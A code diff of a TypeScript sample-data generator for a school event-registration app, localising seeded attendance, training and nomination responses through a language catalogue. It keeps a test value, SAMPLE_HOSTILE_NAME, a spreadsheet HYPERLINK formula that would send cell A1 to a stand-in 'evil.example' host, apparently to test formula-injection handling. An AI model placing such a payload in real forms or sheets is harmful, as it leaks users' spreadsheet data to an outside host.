@@ -1,12 +1,7 @@
 import { localDateTime, type LocalDateTime } from '../cell';
-import {
-  CONSENT_NO,
-  INTENT_PRESENT,
-  INTENT_REGISTER,
-  PLEDGE_CHOICES,
-  WHO_STAFF,
-} from '../forms/build-form-specs';
 import type { Answer, FormId, RawResponse } from '../forms/types';
+import { catalogue } from '../i18n/catalogue';
+import type { Language } from '../plan';
 import { defaultActivities } from './activities';
 import { SEED_GOVERNING_BODY, SEED_WARD_ASSOCIATION } from './plan-2021';
 import { createPrng } from './prng';
@@ -18,6 +13,7 @@ import { sampleRoster } from './roster';
  * training signups where the talk HD10 (50 seats) fills up and gets a waitlist, a resubmission
  * that drops HD10 (promoting the first waiting person), one trigger delivered twice, one
  * answer with formula text, and nominations, one without consent. The same on every call.
+ * The answers are those of the forms in `lang`: an English plan gets the same week, in English.
  */
 export interface SampleSubmission {
   readonly formId: FormId;
@@ -28,20 +24,13 @@ export interface SampleSubmission {
 const SEED = 20211005;
 const TRAINING = 'HD06';
 const TALK = 'HD10';
-const MODES = [`Tại Hội trường ${SEED_GOVERNING_BODY}`, 'Tại điểm cầu của trường', 'Trực tuyến tại nhà'];
 export const SAMPLE_HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")';
 
-const T = {
-  name: 'Họ và tên',
-  group: 'Tổ/nhóm',
-  intent: 'Bạn muốn',
-  mode: 'Hình thức tham dự',
-  who: 'Bạn là',
-  sessions: 'Buổi tập huấn / nói chuyện muốn tham gia',
-  pledges: 'Khóa học dài hạn bạn đăng ký theo học trong năm',
-} as const;
-
-export function sampleResponses(): SampleSubmission[] {
+export function sampleResponses(lang: Language = 'vi'): SampleSubmission[] {
+  const forms = catalogue(lang).forms;
+  const T = forms.questions;
+  const C = forms.choices;
+  const MODES = [C.modes.hall(SEED_GOVERNING_BODY), C.modes.school, C.modes.home];
   const prng = createPrng(SEED);
   const roster = sampleRoster();
   const activities = defaultActivities();
@@ -61,7 +50,7 @@ export function sampleResponses(): SampleSubmission[] {
     const submission: SampleSubmission = {
       formId,
       raw: { responseId: `sample-${formId}-${String(n).padStart(3, '0')}`, timestamp, email, answers },
-      source: 'Mẫu',
+      source: forms.sampleSource,
     };
     out.push(submission);
     return submission;
@@ -78,18 +67,19 @@ export function sampleResponses(): SampleSubmission[] {
   staff.forEach((person, i) => {
     const base = { [T.name]: String(person.name), [T.group]: String(person.group), [T.mode]: MODES[i % 3]! };
     const email = i === 5 ? String(person.email).toUpperCase() : String(person.email);
-    if (i < 26) add('attendance', when(1 + (i % 4), 7, 17), email, { ...base, [T.intent]: INTENT_REGISTER });
+    if (i < 26)
+      add('attendance', when(1 + (i % 4), 7, 17), email, { ...base, [T.intent]: C.intents.register });
     if (i < 20 || (i >= 30 && i < 33))
-      add('attendance', when(5, 7, 9), email, { ...base, [T.intent]: INTENT_PRESENT });
+      add('attendance', when(5, 7, 9), email, { ...base, [T.intent]: C.intents.present });
   });
 
   // Training HD06 (04/10, 80 seats): 30 staff, some pledging longer courses.
   staff.slice(0, 30).forEach((person, i) => {
     const pledges =
-      i % 3 === 0 ? [PLEDGE_CHOICES[0]] : i % 3 === 1 ? [PLEDGE_CHOICES[1], PLEDGE_CHOICES[4]] : [];
+      i % 3 === 0 ? [C.pledges.it] : i % 3 === 1 ? [C.pledges.languages, C.pledges.headOfDepartment] : [];
     add('training', when(1 + (i % 3), 8, 20), String(person.email), {
       [T.name]: String(person.name),
-      [T.who]: WHO_STAFF,
+      [T.who]: C.who.staff,
       [T.sessions]: [label(TRAINING)],
       [T.pledges]: pledges,
     });
@@ -103,7 +93,7 @@ export function sampleResponses(): SampleSubmission[] {
     const timestamp = i === 2 ? localDateTime(2021, 10, 1, 7, 5) : when(1 + (i % 4), 7, 21);
     const submission = add('training', timestamp, String(family.email), {
       [T.name]: i === 7 ? SAMPLE_HOSTILE_NAME : String(family.parentName),
-      [T.who]: 'Phụ huynh',
+      [T.who]: C.who.parent,
       [T.sessions]: sessions,
       [T.pledges]: [],
     });
@@ -114,27 +104,27 @@ export function sampleResponses(): SampleSubmission[] {
   const dropper = parents[2]!;
   add('training', localDateTime(2021, 10, 5, 19, 30), String(dropper.email), {
     [T.name]: String(dropper.parentName),
-    [T.who]: 'Phụ huynh',
+    [T.who]: C.who.parent,
     [T.sessions]: [label(TRAINING)],
     [T.pledges]: [],
   });
 
   // Nominations of "Gia đình hiếu học": four families, one nominator withholds consent.
-  const consentYes = `Đồng ý chia sẻ đề cử này với ${SEED_WARD_ASSOCIATION}`;
+  const consentYes = C.consentYes(SEED_WARD_ASSOCIATION);
   [60, 75, 90, 105].forEach((k, i) => {
     const nominator = roster.families[k]!;
     const family = roster.families[k + 1]!;
     add('nomination', when(2 + i, 9, 20), String(nominator.email), {
-      'Họ và tên người đề cử': String(nominator.parentName),
-      'Quan hệ với gia đình được đề cử': 'Phụ huynh cùng lớp',
-      'Họ tên người đại diện gia đình': String(family.parentName),
-      'Họ tên trẻ': String(family.child),
-      Lớp: String(family.className),
-      'Địa chỉ (trong phường)': String(family.address),
-      'Thành tích, tấm gương học tập của gia đình':
-        'Cả gia đình cùng tham gia lớp tin học cộng đồng; bé đọc sách cùng bố mẹ mỗi tối.',
-      'Liên kết minh chứng (ảnh, giấy khen…)': '',
-      'Đồng ý chia sẻ với Hội khuyến học phường': i === 2 ? CONSENT_NO : consentYes,
+      [T.nominator]: String(nominator.parentName),
+      [T.relation]: C.relations.classParent,
+      [T.family]: String(family.parentName),
+      [T.child]: String(family.child),
+      [T.className]: String(family.className),
+      [T.address]: String(family.address),
+      // The nominator's own words: data, the same in either language.
+      [T.achievements]: 'Cả gia đình cùng tham gia lớp tin học cộng đồng; bé đọc sách cùng bố mẹ mỗi tối.',
+      [T.evidence]: '',
+      [T.consent]: i === 2 ? C.consentNo : consentYes,
     });
   });
 
